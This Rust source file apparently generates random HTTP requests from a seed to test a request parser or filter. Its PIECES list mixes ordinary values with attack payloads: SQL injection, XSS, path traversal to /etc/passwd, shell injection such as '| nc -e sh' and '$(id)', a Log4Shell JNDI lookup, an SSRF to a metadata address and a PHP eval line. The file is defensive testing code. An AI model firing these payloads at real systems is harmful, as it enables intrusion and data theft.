//! Requests from a seed: ordinary and hostile pieces, in every place and encoding.

/// splitmix64.
pub(crate) struct Seed(pub(crate) u64);

impl Seed {
    pub(crate) fn below(&mut self, most: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % most as u64) as usize
    }

    pub(crate) fn one<'a>(&mut self, of: &[&'a str]) -> &'a str {
        of[self.below(of.len())]
    }
}

#[derive(Clone, Debug)]
pub(crate) struct Request {
    pub(crate) method: String,
    pub(crate) target: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) body: String,
}

const PIECES: &[&str] = &[
    "shoes",
    "42",
    "-1",
    "a b",
    "O'Neil",
    "green & blue",
    "x=y",
    "Ann@example.org",
    "caf\u{e9}",
    "1' or '1'='1",
    "1 union select a from b",
    "admin'--",
    "sleep(5)",
    "/*!50000x*/",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../etc/passwd",
    "..\\..\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "%2e%2e/",
    ";cat /etc/passwd",
    "$(id)",
    "`whoami`",
    "| nc -e sh",
    "ping -c 1 x.example",
    "${jndi:ldap://x.example/a}",
    "{{7*7}}",
    "http://169.254.169.254/",
    "file:///etc/hosts",
    "php://input",
    "<?php eval($_GET[a]);",
    "O:4:\"User\":0:{}",
    "rO0ABXNy",
    "__proto__",
    "%00",
    "\u{0}",
    "\t",
    "\r\nSet-Cookie: a=b",
    "&#x3c;script&#62;",
    "\\u003cscript",
    "%u003c",
    "aGVsbG8=",
    "%zz",
    "+",
    "",
];
const NAMES: &[&str] = &[
    "q",
    "id",
    "page",
    "file",
    "user[name]",
    "a.b",
    "cmd",
    "url",
    "_",
    "x y",
];

impl Request {
    pub(crate) fn new(seed: &mut Seed) -> Self {
        let mut request = Self {
            method: seed
                .one(&["GET", "GET", "POST", "POST", "PUT", "HEAD"])
                .to_owned(),
            target: target(seed),
            headers: headers(seed),
            body: String::new(),
        };
        if matches!(&*request.method, "POST" | "PUT") {
            let (kind, body) = body(seed);
            request.headers.push(("Content-Type".into(), kind.into()));
            let length = body.len().to_string();
            request.headers.push(("Content-Length".into(), length));
            request.body = body;
        }
        request
    }

    /// The type of its body, without parameters; `no body` if it has none.
    pub(crate) fn kind(&self) -> &str {
        let mut headers = self.headers.iter();
        let kind = headers.find(|(name, _)| name == "Content-Type");
        kind.map_or("no body", |(_, kind)| kind.split(';').next().unwrap())
    }

    /// What differences may depend on: the type of its body, and marks that it holds, as they are
    /// or encoded.
    pub(crate) fn names(&self) -> Vec<String> {
        let headers = self.headers.iter();
        let headers = headers.map(|(name, value)| format!("{name}: {value}\n"));
        let whole = format!(
            "{}\n{}{}",
            self.target,
            headers.collect::<String>(),
            self.body
        );
        let holds = |texts: &[&str]| texts.iter().any(|text| whole.contains(text));
        let marks = [
            ("% in the target", self.target.contains('%')),
            ("two dots", holds(&["..", "%2e", "%252e", ".%"])),
            ("=", holds(&["=", "%3d"])),
            ("line feed", holds(&["%0a", "%250a", "\\n", "\r\n"])),
        ];
        let held = marks.iter().filter(|(_, held)| *held);
        let held = held.map(|(name, _)| (*name).to_owned());
        held.chain([self.kind().to_owned()]).collect()
    }

    /// As the driver reads it.
    pub(crate) fn encoded(&self) -> Vec<u8> {
        let mut bytes = Vec::new();
        let number = |bytes: &mut Vec<u8>, number: usize| {
            bytes.extend_from_slice(&u32::try_from(number).unwrap().to_le_bytes());
        };
        for text in [&*self.method, &self.target, "1.1"] {
            number(&mut bytes, text.len());
            bytes.extend_from_slice(text.as_bytes());
        }
        number(&mut bytes, self.headers.len());
        let fields = self.headers.iter().flat_map(|(name, value)| [name, value]);
        for text in fields.chain([&self.body]) {
            number(&mut bytes, text.len());
            bytes.extend_from_slice(text.as_bytes());
        }
        bytes
    }

    /// Smaller ones: without a header, a part of the query, of the body.
    pub(crate) fn smaller(&self) -> Vec<Self> {
        let mut all = Vec::new();
        for at in 0..self.headers.len() {
            let mut one = self.clone();
            one.headers.remove(at);
            all.push(one);
        }
        for (at, _) in self.target.match_indices('&') {
            let mut one = self.clone();
            one.target.truncate(at);
            all.push(one);
        }
        if self.target != "/" {
            let mut one = self.clone();
            one.target = "/".to_owned();
            all.push(one);
        }
        for (at, _) in self.body.match_indices('&') {
            for body in [&self.body[..at], &self.body[at + 1..]] {
                let mut one = self.clone();
                one.body = body.to_owned();
                all.push(one);
            }
        }
        all
    }
}

/// A piece, or two, as they are or encoded.
fn piece(seed: &mut Seed) -> String {
    let mut text = seed.one(PIECES).to_owned();
    if seed.below(4) == 0 {
        text += seed.one(PIECES);
    }
    text
}

fn percent(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' => {
                char::from(byte).to_string()
            }
            _ => format!("%{byte:02x}"),
        })
        .collect()
}

fn pairs(seed: &mut Seed) -> String {
    let pairs: Vec<String> = (0..seed.below(4) + 1)
        .map(|_| {
            let value = piece(seed);
            let value = match seed.below(5) {
                0 => percent(&percent(&value)),
                1 => value.replace(
                    |each: char| each.is_ascii_control() || " &#".contains(each),
                    "+",
                ),
                _ => percent(&value),
            };
            format!("{}={value}", percent(seed.one(NAMES)))
        })
        .collect();
    pairs.join("&")
}

fn target(seed: &mut Seed) -> String {
    let path = seed.one(&[
        "/",
        "/index.php",
        "/a/b/../c",
        "/api/v1/items",
        "/.git/config",
        "/a%20b",
        "//x",
    ]);
    match seed.below(4) {
        0 => path.to_owned(),
        _ => format!("{path}?{}", pairs(seed)),
    }
}

fn headers(seed: &mut Seed) -> Vec<(String, String)> {
    let mut headers = vec![
        ("Host", "shop.example.org".to_owned()),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)".to_owned()),
        ("Accept", "text/html,*/*;q=0.8".to_owned()),
    ];
    let clean = |text: String| {
        text.replace(|each: char| each.is_ascii_control(), " ")
            .trim()
            .to_owned()
    };
    for name in [
        "Referer",
        "X-Forwarded-For",
        "Cookie",
        "X-Custom",
        "Accept-Language",
    ] {
        if seed.below(5) == 0 {
            let value = match name {
                "Cookie" => format!(
                    "a={}; session=8f14; b={}",
                    percent(&piece(seed)),
                    percent(&piece(seed))
                ),
                _ => clean(piece(seed)),
            };
            headers.push((name, value));
        }
    }
    headers
        .into_iter()
        .map(|(name, value)| (name.to_owned(), value))
        .collect()
}

fn body(seed: &mut Seed) -> (&'static str, String) {
    match seed.below(5) {
        0 | 1 => ("application/x-www-form-urlencoded", pairs(seed)),
        2 => {
            let fields: Vec<String> = (0..seed.below(4) + 1)
                .map(|_| {
                    let value = serde_json::to_string(&piece(seed)).unwrap();
                    let name = serde_json::to_string(seed.one(NAMES)).unwrap();
                    match seed.below(4) {
                        0 => format!("{name}:[{value},1]"),
                        1 => format!("{name}:{{\"in\":{value}}}"),
                        _ => format!("{name}:{value}"),
                    }
                })
                .collect();
            ("application/json", format!("{{{}}}", fields.join(",")))
        }
        3 => {
            let parts: String = (0..seed.below(3) + 1)
                .map(|at| {
                    let file = if seed.below(3) == 0 { "; filename=\"a.txt\"\r\nContent-Type: text/plain" } else { "" };
                    let value = piece(seed).replace(['\r', '\n'], " ");
                    format!("--b0undary\r\nContent-Disposition: form-data; name=\"f{at}\"{file}\r\n\r\n{value}\r\n")
                })
                .collect();
            (
                "multipart/form-data; boundary=b0undary",
                format!("{parts}--b0undary--\r\n"),
            )
        }
        _ => {
            let text = piece(seed)
                .replace('&', "&amp;")
                .replace('<', "&lt;")
                .replace(|each: char| each.is_ascii_control(), " ");
            (
                "text/xml",
                format!("<?xml version=\"1.0\"?><a b=\"1\"><c>{text}</c></a>"),
            )
        }
    }
}
